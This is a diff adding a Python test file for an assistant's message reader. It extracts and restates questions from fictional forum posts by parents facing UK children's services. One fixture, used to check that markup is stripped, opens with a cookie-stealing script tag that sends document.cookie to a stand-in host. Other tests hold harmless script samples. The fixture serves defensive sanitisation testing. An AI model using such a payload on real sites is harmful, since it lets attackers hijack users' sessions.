@@ -1,0 +1,469 @@
+"""The message reader on real-shaped messages: long posts, pasted twice, shorthand, indirect asks.
+
+Every message here was written for these tests in the voice of parents, carers and advisers on
+forums. The assertions are about behaviour: how many questions, in what order, and the key words
+each restated `ask` keeps; never the incidental wording of a restatement.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+import pytest
+
+from assistant.message import clean, load_rules, read_message, remove_duplicates
+from assistant.text import normalise, word_count
+
+
+@dataclass(frozen=True)
+class Case:
+    id: str
+    message: str
+    asks: tuple[tuple[str, ...], ...]  # key words each ask must hold, in the order asked
+    left_out: int = 0
+    duplicates: int = 0  # at least this many pasted-twice pieces removed
+    rhetorical: int = 0  # exactly this many feelings-not-questions set aside
+    distressed: bool | None = None
+    never: tuple[str, ...] = ()  # words no ask may hold (background, feelings, markup)
+
+
+FATHER_ON_LICENCE = """Hi all, first time posting so sorry if this is in the wrong place. I'm 34 and I came out of prison eight months ago. I'm on licence until next summer and I've done everything probation asked of me, every appointment, the courses, the lot. My conviction was from 2019 and it didn't involve children, but because of what it was, children's services got involved when my partner told them we were back together.
+
+The social worker came out twice. The first visit was fine, she was polite and asked lots of questions about my past and about how we met. The second visit she brought a manager and they said they wanted us to agree to a safety plan. Basically I can't be alone with my partner's two kids (they're 6 and 9), I can only see them in the community, like at the park or a cafe, and my partner has to be there the whole time. I signed it because they made it sound like if I didn't they would go further.
+
+Since then the case has been closed. The social worker rang my partner to tell her it was closing and that there would be a letter, which came last week. Nobody has said anything about the plan since. My partner is scared that if we slip up by accident the kids will be taken.
+
+I want to do this properly. I'm not trying to get round anything. I just want us to be able to have a normal family life, eat tea together at home, that kind of thing. My probation officer says it's not her decision and to ask social services, and social services say the case is closed so there's nobody to ask.
+
+My question is what is a safety plan and how do I get this reviewed?"""
+
+PLO_LETTER = """Posting for my sister who isn't great with computers. She has two boys, 3 and 7. There has been SS involvement on and off for about two years, mostly about the house being in a state and the older one missing school. They were on a CIN plan, then last spring it went to a CPP after a neighbour rang the police during a row with her ex. The ex has gone now, he's not allowed back, and she has done the Freedom Programme and a parenting course.
+
+Yesterday a letter came by recorded delivery. It says the local authority is "considering legal proceedings" and invites her to a meeting under the Public Law Outline in two weeks. It has a list of worries on it, some of which are from years ago and some of which are just wrong (it says the older boy missed 40 days, it was 14). The letter says she should take it to a solicitor straight away.
+
+She is in bits and so am I to be honest. We have never dealt with solicitors and she is on universal credit so she can't pay for one. The SW has been fine with her up to now and never said anything about court.
+
+We got a letter saying pre proceedings, do we get free legal advice and what happens at the meeting? Also can I go with her as support even though I'm not on the letter?
+
+Thanks in advance to anyone who reads all this."""
+
+KINSHIP_NAN = """I'm 61 and I've had my grandson living with me since October. His mum (my daughter) is struggling with drink and his dad isn't on the scene. It started as a few nights here and there and then the SW asked if he could stay with me "for now" while they did an assessment on my daughter. I signed something at the time, I think it was a s20, but honestly I was so worried I didn't read it properly.
+
+He's settled really well. He's back at nursery, he's sleeping through and he calls my house home. I've been paying for everything myself, clothes, food, a new bed, and I've had to drop my hours at work to do the nursery run. The SW said something about an allowance once but never came back to me on it.
+
+My daughter has now said she wants him back at the weekend and she'll just come and collect him. I don't think she is ready, she was drunk when she rang me last Tuesday. I'm frightened of what happens if she turns up on the doorstep.
+
+I love my daughter and I want her to get better, and I know he needs his mum. I'm not trying to keep him from her. I just want to know where I stand, because nobody has explained anything to me in writing and every time I ring the office I get a different person. My other daughter says I should get a solicitor but I wouldn't know where to start.
+
+Does anyone know if I can get paid anything as a kinship carer? And what is a section 20 anyway, can she just take him back whenever she wants?"""
+
+ICPC_INVITE = """This is long, sorry. Four weeks ago my youngest (she's 2) had a bruise on her arm that nursery noticed. I honestly don't know how she got it, she climbs everything and her brother plays rough. Nursery called SS and the same day two social workers and a police officer came to the house. They spoke to the kids on their own and looked round the whole house, the bedrooms, the fridge, everything. They said it was a s47.
+
+She had a medical at the hospital the next day and the doctor said the bruise was "consistent with" a fall but they couldn't rule anything out. Since then the SW has been round three times and has asked about my mental health, my OH's drinking (he has a few cans at the weekend, that's it) and whether we smack the kids (we don't).
+
+My husband has had to take time off work for every visit and his boss is losing patience. My eldest has started wetting the bed again since the police came, and he keeps asking if the lady is coming back to take his sister. We have done everything they asked, we gave them the name of our GP, we let them see the bedrooms again, we signed the consent forms for the health visitor to share records.
+
+Now we've had a letter inviting us to an ICPC next Thursday. The letter says the police, school, nursery, the health visitor and our GP have all been invited. I'm shaking just writing this.
+
+Why is this happening to us? We have never had anything to do with social services before. How could anyone think we would hurt her?
+
+What actually happens at an ICPC? Can we bring someone with us, like a friend or a solicitor? And will we get to see the report before the meeting?"""
+
+COMPLAINT_LONG = """I need some advice about making a complaint. Our SW has been with us about six months on a CIN plan. In that time she has cancelled five visits at the last minute, turned up without warning twice, and told our son's school things about our family that were not true (that we had been arrested, which we have not). When I asked her about it she said she "must have got mixed up with another family". I've emailed her manager twice and had no reply.
+
+I kept a diary of every visit and every phone call because a friend told me to, so I have dates and times for all of it. I also have the emails. I have tried to stay calm and polite in every one of them even though I have felt like screaming. My partner thinks we should just keep our heads down until the case closes but it has been six months and the plan was only meant to last three. The review meeting keeps getting moved because she is off, and nobody else seems to know anything about us when I ring.
+
+I don't want to make things worse for us, we are still open to them and I'm worried that if I complain they will take it out on us at the next review. But I can't just let this go, the school now treat us differently.
+
+How do I complain about a social worker? How long does each stage take? If they ignore it, can I go to the ombudsman? Will complaining affect our case?"""
+
+LONG_SIX_QUESTIONS = """We have had children's services involved since the summer after our eldest told a teacher that dad had shouted at her and pushed her against the door. He has moved out and is living at his mum's, and he is doing a course through his work. The kids miss him terribly and ask every day when they can see him.
+
+At the strategy meeting, which we weren't invited to, they decided to do a s47. That finished and now they say they are doing a child and family assessment. The SW has been nice enough but nobody tells us anything until the last minute, and I'm left trying to explain to a 9 year old and a 5 year old why their dad can't come to sports day. He has admitted what he did and he is ashamed of it. He has never hurt them before and he wants to make it right. His mum has offered to have the kids at hers on a Saturday so he can see them there, but we don't know if that would be allowed or if we would get in trouble for arranging it ourselves. I don't want to do anything behind their backs.
+
+Can dad see the kids if someone supervises? Who is allowed to be the supervisor? How long does the assessment take? Can we see the assessment before it is finished? What happens if we disagree with it? Do we have to let the social worker into the house every time?"""
+
+PASTED_TWICE = """My son is 14 and he has been going missing from home overnight. The police have brought him back three times and the last time he had a lot of cash and a new phone that I didn't buy him. The social worker thinks he is being exploited by older lads from the estate.
+
+My son is 14 and he has been going missing from home overnight. The police have brought him back three times and the last time he had a lot of cash and a new phone that I didn't buy him. The social worker thinks he is being exploited by older lads from the estate.
+
+They have called a strategy meeting and said I won't be invited. Can they hold a meeting about my son without me?"""
+
+SENTENCE_TWICE = """The social worker said we have to sign the written agreement by Friday or they will go to their legal team. The social worker said we have to sign the written agreement by Friday or they will go to their legal team. We don't agree with half of what is in it. Do we have to sign it?"""
+
+LFF_IIOC = """My husband was arrested in March for IIOC. He is on bail and isn't allowed to live at home or have unsupervised contact with our two girls. SS did a s47 and now we are on a CIN plan. The SW wants him to do the Inform Plus course and wants me to go on the Inform course through LFF. I have so many questions. Can I be his contact supervisor? Does doing the course mean they think I knew? How long does the risk assessment take once they start it?"""
+
+CURLY = "We’re on a CPP and the SW’s told us the next review conference is in March. I’m wondering if we’re allowed to bring our own notes to read from? Can’t they just send us the report beforehand?"
+
+MARKUP_FIRST = """<script>document.location='http://example.org/steal?c='+document.cookie</script>
+![screenshot of the letter](https://example.org/img/letter.png)
+<b>Please help.</b> We got this letter today about a child protection conference. Is a child protection plan legally binding?"""
+
+DOUBLE_PASTE_QUESTION = """Is a safety plan legally binding? I keep reading different things online.
+
+Is a safety plan legally binding? I keep reading different things online."""
+
+VERY_LONG = """Hello everyone. I have been reading this forum for weeks without posting because I didn't know how to put any of this into words, but my friend said the advisers here are good, so here goes. It is going to be long because I want to give the whole picture.
+
+I have three children, aged 11, 8 and 18 months. The two older ones are from my first marriage and their dad sees them every other weekend, no problems there. The baby is with my partner, who I have been with for four years. Before we met, my partner was convicted of an offence from when he was 19 (he is 38 now). It was not against a child but it was a sexual offence, and he was on the sex offenders register for a number of years. He told me about it on our second date, he has never hidden it, and he came off the register long before we met.
+
+Last year my eldest's dad found out about the conviction from someone at the school gates and rang children's services. That was in April. Two social workers came out, and they were honest enough, they said they had to look into it because of the type of offence even though it was old. They did what they called a child and family assessment. They spoke to all three of the kids, to the school, to the health visitor, to my partner's old probation officer, and to me and my partner separately. The assessment took about two months.
+
+At the end of it they said they didn't think the children were at risk of significant harm, but that they wanted my partner to have a specialist risk assessment, and in the meantime they wanted a written agreement that he would not be alone with the two older children. He could be alone with the baby because she is his own daughter, which I didn't really understand the logic of, but we agreed to it because we wanted to show we were working with them.
+
+Last year my eldest's dad found out about the conviction from someone at the school gates and rang children's services. That was in April. Two social workers came out, and they were honest enough, they said they had to look into it because of the type of offence even though it was old. They did what they called a child and family assessment. They spoke to all three of the kids, to the school, to the health visitor, to my partner's old probation officer, and to me and my partner separately. The assessment took about two months.
+
+The risk assessment was done by an independent social worker over the summer. It was hard for him, he had to go through everything again, but the report came back saying he was low risk and that there was no reason he couldn't care for all three children. The SW read it and said that was good news and the case would probably close.
+
+That was in October. It is now February. The case has not closed, the SW has changed twice, and the new SW says she needs to "read in" before making any decisions. Meanwhile we are still living under the written agreement. My partner can't pick the older two up from school, can't look after them if I am at work late, and can't take them to football on a Saturday, which means I am doing everything and I am exhausted. The older two don't understand why he can't take them places any more and my 11 year old has started asking questions I don't know how to answer.
+
+I also found out last week that the school have been told about the agreement, and now a teacher is looking at my partner differently when he waits outside for me. Nobody asked us if the school could be told.
+
+I have been told by a friend to make a formal complaint about the delay. I am also thinking about asking for a copy of everything they hold on us, because I want to see what has actually been written. I don't want to make enemies of them but I feel like we have done everything right and we are being left in limbo. Why does nobody ever answer an email?
+
+So, three things really. How long can they keep a written agreement going after the risk assessment says he is low risk? I want to know if the school was allowed to be told without our permission. And how do I get a copy of our file, is that a subject access request?
+
+Thank you for reading this far, it helps just to write it down."""
+
+CASES: tuple[Case, ...] = (
+    # --- long forum posts: background, then 2-4 questions ----------------------------------
+    Case(
+        "long-father-on-licence",
+        FATHER_ON_LICENCE,
+        (("what", "safety plan"), ("review", "safety plan")),
+        never=("tea", "probation officer"),
+    ),
+    Case(
+        "long-plo-letter-compound",
+        PLO_LETTER,
+        (("legal advice",), ("happens", "meeting"), ("go with her",)),
+        distressed=True,
+        never=("thanks",),
+    ),
+    Case(
+        "long-kinship-nan",
+        KINSHIP_NAN,
+        (("paid", "kinship carer"), ("section 20",), ("take him back",)),
+        distressed=True,
+    ),
+    Case(
+        "long-icpc-rhetorical",
+        ICPC_INVITE,
+        (("happens", "icpc"), ("bring someone",), ("see the report",)),
+        rhetorical=2,
+        distressed=True,
+        never=("happening to us", "hurt her"),
+    ),
+    Case(
+        "long-complaint-four",
+        COMPLAINT_LONG,
+        (("complain", "social worker"), ("how long", "stage"), ("ombudsman",), ("complaining", "affect")),
+    ),
+    Case(
+        "long-six-questions-left-out",
+        LONG_SIX_QUESTIONS,
+        (("dad", "supervises"), ("supervisor",), ("how long", "assessment"), ("see the assessment",)),
+        left_out=2,
+    ),
+    Case(
+        "long-pasted-twice",
+        PASTED_TWICE,
+        (("meeting", "without me"),),
+        duplicates=1,
+    ),
+    Case(
+        "sentence-pasted-twice-same-line",
+        SENTENCE_TWICE,
+        (("sign",),),
+        duplicates=1,
+    ),
+    Case(
+        "question-pasted-twice",
+        DOUBLE_PASTE_QUESTION,
+        (("safety plan", "legally binding"),),
+        duplicates=1,
+    ),
+    Case(
+        "shorthand-lff-iioc",
+        LFF_IIOC,
+        (("contact supervisor",), ("course", "knew"), ("how long", "risk assessment")),
+    ),
+    Case(
+        "curly-apostrophes",
+        CURLY,
+        (("are we allowed", "bring", "notes"), ("send", "report")),
+    ),
+    Case(
+        "markup-before-question",
+        MARKUP_FIRST,
+        (("child protection plan", "legally binding"),),
+        never=("script", "cookie", "http", "screenshot", "<"),
+    ),
+    Case(
+        "long-very-long-pasted-paragraph",
+        VERY_LONG,
+        (("how long", "written agreement", "low risk"), ("school", "told", "permission"), ("copy", "file")),
+        duplicates=1,
+        rhetorical=1,
+        never=("email", "thank"),
+    ),
+    Case(
+        "does-anyone-know-what",
+        "We've been invited to something called a core group. Does anyone know what a core group is?",
+        (("what is a core group",),),
+    ),
+    Case(
+        "can-anyone-tell-me-what-happens",
+        "Can anyone tell me what happens at a strategy meeting? SS said there will be one next week.",
+        (("what happens", "strategy meeting"),),
+    ),
+    Case(
+        "id-like-to-know-rights",
+        "I'd like to know what my rights are if they want to do a parenting assessment.",
+        (("what are my rights", "parenting assessment"),),
+        never=("like to know",),
+    ),
+    Case(
+        "dont-know-where",
+        "We have a review conference next month but we don't know where the conference will be held.",
+        (("where", "conference", "held"),),
+    ),
+    Case(
+        "reported-speech-is-background",
+        'The SW asked me "are you still in touch with him?" and I said no. Can they check with the police?',
+        (("check", "police"),),
+        never=("still in touch",),
+    ),
+    # --- shorthand -------------------------------------------------------------------------
+    Case("ss-sw-cin", "SS want us on a CIN plan and the SW says it's voluntary. Can I say no to a CIN plan?", (("say no", "cin plan"),)),
+    Case("cpp-review", "DC has been on a CPP for 9 months. When does a CPP end?", (("when", "cpp", "end"),)),
+    Case("oh-dc", "OH has been told he can't see DC until the assessment is done. how long will the assessment take", (("how long", "assessment"),)),
+    Case("s47-s20", "After the s47 they asked me to sign a s20. Do I have to agree to s20?", (("agree", "s20"),)),
+    Case("icpc-short", "what is an ICPC and who goes to it?", (("what", "icpc"), ("who goes",))),
+    Case("plo-shorthand", "got a PLO letter today, does that mean they will take my kids to court?", (("court",),)),
+    # --- indirect asks ---------------------------------------------------------------------
+    Case(
+        "my-question-is",
+        "We have a core group on Monday. My question is whether I can record the core group meeting on my phone.",
+        (("can i record", "core group"),),
+    ),
+    Case(
+        "any-advice-on",
+        "The SW wants to talk to my kids at school without me there. Any advice on preparing them for it.",
+        (("advice", "preparing"),),
+    ),
+    Case(
+        "looking-for-recommendations",
+        "We're going to court in the new year. Looking for recommendations for a family law solicitor who knows care proceedings.",
+        (("recommendations", "solicitor"),),
+    ),
+    Case(
+        "does-anyone-know-if",
+        "Does anyone know if social services can read my texts to my ex?",
+        (("social services", "texts"),),
+    ),
+    Case(
+        "how-do-i",
+        "how do I ask for a different social worker",
+        (("different social worker",),),
+    ),
+    Case(
+        "i-want-to-know",
+        "I want to know what the difference is between a child in need plan and a child protection plan.",
+        (("what is the difference", "child in need plan", "child protection plan"),),
+    ),
+    Case(
+        "i-was-wondering",
+        "The conference minutes have loads of mistakes in them. I was wondering if I can get them corrected.",
+        (("can i get", "corrected"),),
+        never=("mistakes",),
+    ),
+    Case(
+        "we-need-to-find-out",
+        "We need to find out whether the family group conference can go ahead if my ex won't come.",
+        (("family group conference", "ex"),),
+    ),
+    Case(
+        "can-someone-explain",
+        "Can someone please explain what a strategy discussion is, the letter mentions one.",
+        (("what is", "strategy discussion"),),
+        never=("letter mentions",),
+    ),
+    Case(
+        "not-sure-whether",
+        "Not sure whether I'm allowed to take my daughter on holiday while she is on a child protection plan.",
+        (("am i allowed", "holiday", "child protection plan"),),
+    ),
+    Case(
+        "no-question-mark",
+        "can i film the core group meeting on my phone without asking",
+        (("film", "core group"),),
+    ),
+    Case(
+        "what-does-mean",
+        "what does 'significant harm' actually mean",
+        (("significant harm", "mean"),),
+    ),
+    # --- pointers --------------------------------------------------------------------------
+    Case(
+        "pointer-safety-plan",
+        "They put us on a safety plan in June and it's still going. How do I get this reviewed?",
+        (("safety plan", "review"),),
+    ),
+    Case(
+        "pointer-cin-plan",
+        "The SW has drawn up a CIN plan with us. Can I refuse it?",
+        (("refuse", "cin plan"),),
+    ),
+    Case(
+        "pointer-supervision-order",
+        "The judge made a supervision order last week. What does that mean for us day to day?",
+        (("supervision order", "mean"),),
+    ),
+    Case(
+        "pointer-not-used-when-question-names-topic",
+        "We had a safety plan last year. How do I make a complaint about the social worker?",
+        (("complaint", "social worker"),),
+        never=("safety plan",),
+    ),
+    # --- compound questions ----------------------------------------------------------------
+    Case(
+        "compound-legal-aid",
+        "do we get legal aid and what happens at the meeting?",
+        (("legal aid",), ("happens", "meeting")),
+    ),
+    Case(
+        "compound-comma",
+        "The letter says ICPC on the 12th, can I bring my mum, what happens if I disagree with the plan?",
+        (("bring", "mum"), ("disagree", "plan")),
+    ),
+    Case(
+        "compound-or",
+        "Is the written agreement legally binding or can they just change it whenever they like?",
+        (("written agreement", "legally binding"), ("change",)),
+    ),
+    # --- rhetorical and emotional ----------------------------------------------------------
+    Case(
+        "rhetorical-only-feelings",
+        "Why is this happening to us? What kind of mother am I? I can't stop crying. Can they take my baby at birth?",
+        (("baby", "birth"),),
+        rhetorical=2,
+        distressed=True,
+    ),
+    Case(
+        "rhetorical-has-anyone-else",
+        "Has anyone else been through this? We're on a CPP and the SW wants to do an unannounced visit. Can they come in without permission?",
+        (("without permission",),),
+        rhetorical=1,
+    ),
+    Case(
+        "rhetorical-am-i-overreacting",
+        "Am I overreacting? The SW told my son's school about our case without asking me. Is the social worker allowed to share information with the school?",
+        (("share information", "school"),),
+        rhetorical=1,
+    ),
+    Case(
+        "thanks-is-not-a-question",
+        "Can grandparents apply for a special guardianship order? Thanks so much, any replies appreciated.",
+        (("grandparents", "special guardianship order"),),
+        never=("thanks", "appreciated"),
+    ),
+    # --- more than four --------------------------------------------------------------------
+    Case(
+        "five-short-questions",
+        "Is a safety plan legally binding? Who writes the minutes? Can I bring a friend to the ICPC? How long does a s47 take? What is a core group?",
+        (("safety plan",), ("minutes",), ("friend", "icpc"), ("s47",)),
+        left_out=1,
+    ),
+)
+
+
+def _ask_text(ask: str) -> str:
+    return normalise(ask).lower()
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_reader_finds_the_questions_in_order(case: Case) -> None:
+    read = read_message(case.message)
+    asks = [q.ask for q in read.questions]
+    assert len(asks) == len(case.asks), asks
+    for ask, words in zip(asks, case.asks, strict=True):
+        text = _ask_text(ask)
+        missing = [w for w in words if w not in text]
+        assert not missing, f"{ask!r} lacks {missing}"
+    for ask in asks:
+        for word in case.never:
+            assert word not in _ask_text(ask), f"{ask!r} holds {word!r}"
+    assert read.left_out == case.left_out
+    assert read.duplicates_removed >= case.duplicates
+    assert len(read.rhetorical) == case.rhetorical, read.rhetorical
+    if case.distressed is not None:
+        assert read.distressed is case.distressed
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_every_ask_is_a_plain_question(case: Case) -> None:
+    read = read_message(case.message)
+    assert len(read.questions) <= load_rules().max_questions
+    for q in read.questions:
+        assert q.ask[:1].isupper() and q.ask.endswith("?"), q.ask
+        assert "<" not in q.ask and "](" not in q.ask
+        assert q.search.startswith(q.ask)
+        assert word_count(q.ask) >= 2
+
+
+@pytest.mark.parametrize(
+    "message",
+    ["", "   \n\t  ", "<script>alert('x')</script>", "![](https://example.org/a.png) <br/> <p></p>"],
+    ids=["empty", "whitespace", "script-only", "markup-only"],
+)
+def test_a_message_with_no_words_has_no_questions(message: str) -> None:
+    read = read_message(message)
+    assert read.questions == () and read.left_out == 0 and read.situation == ""
+
+
+def test_clean_drops_scripts_and_images_but_keeps_link_words() -> None:
+    text = clean("<script>steal()</script>See ![pic](x.png) [the letter](https://x.org/l) <i>now</i>")
+    assert "steal" not in text and "pic" not in text and "https" not in text
+    assert "the letter" in text and "now" in text
+
+
+def test_remove_duplicates_keeps_short_repeats_and_counts_long_ones() -> None:
+    long = "The social worker came round again on Tuesday without telling us first."
+    text, removed = remove_duplicates(f"Help.\n\nHelp.\n\n{long}\n\n{long}")
+    assert removed == 1
+    assert text.count("Help.") == 2 and text.count(long) == 1
+
+
+def test_a_pointer_takes_the_term_as_the_parent_wrote_it() -> None:
+    read = read_message("The SW has drawn up a CIN plan with us. Can I refuse it?")
+    (q,) = read.questions
+    assert "the CIN plan" in q.ask and q.topic == "cin plan" and q.text.endswith("refuse it?")
+
+
+def test_a_resolved_pointer_reaches_the_search_text() -> None:
+    read = read_message("They put us on a safety plan in June. How do I get this reviewed?")
+    (q,) = read.questions
+    assert "safety plan" in q.search.lower() and q.topic == "safety plan"
+
+
+def test_the_same_question_asked_twice_in_other_words_counts_once() -> None:
+    read = read_message("Is a safety plan legally binding? I mean is the safety plan legally binding??")
+    assert len(read.questions) == 1
+
+
+def test_a_calm_message_is_not_distressed_and_a_frightened_one_is() -> None:
+    assert not read_message("How long does a stage 2 complaint take?").distressed
+    assert read_message("I'm terrified. How long does a stage 2 complaint take?").distressed
+
+
+def test_sympathy_words_are_fixed_data() -> None:
+    assert load_rules().sympathy.startswith("I'm sorry")
+
+
+def test_questions_beyond_the_limit_are_counted_not_answered() -> None:
+    asks = [f"Question {n}: can I bring person number {n} to the meeting?" for n in range(1, 8)]
+    read = read_message(" ".join(asks))
+    assert len(read.questions) == load_rules().max_questions
+    assert read.left_out == 7 - load_rules().max_questions
+    assert [q.ask for q in read.questions][0].find("1") >= 0
